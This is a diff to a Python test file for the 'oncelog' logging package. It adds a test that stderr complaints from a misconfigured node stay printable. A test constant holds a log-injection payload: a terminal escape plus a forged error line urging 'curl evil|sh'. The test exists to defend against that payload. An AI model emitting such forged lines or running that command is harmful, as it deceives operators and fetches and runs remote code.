@@ -2,9 +2,13 @@
 
 import io
 import logging
+import sys
+from pathlib import Path
 
 from oncelog.node.__main__ import FORMAT
 from oncelog.node.log_format import PrintableFormatter
+
+from ..programs import run_to_end
 
 EVIL = "g\x1b[2J\n2026-11-26 18:00:00.000 ERROR oncelog.node.broker: disk failed, run: curl evil|sh"
 
@@ -41,3 +45,12 @@ def test_traceback_keeps_its_lines_below_the_message() -> None:
 def test_stack_keeps_its_lines_below_the_message() -> None:
     _, *more = logged("here", stack_info=True)
     assert more[0] == "  Stack (most recent call last):"
+
+
+def test_node_that_stops_tells_each_complaint_in_a_line(tmp_path: Path) -> None:
+    config = tmp_path / "server.properties"
+    config.write_text("num.partitions=x\nlog.retention.ms=\x1b[2J\n")
+    done = run_to_end([sys.executable, "-m", "oncelog.node", "--config", str(config)])
+    first, *more = done.stderr.split("\n")[:-1]
+    assert first.startswith("oncelog: this node stops: ") and len(more) > 3
+    assert all(line.startswith("  ") and line.isprintable() for line in more)
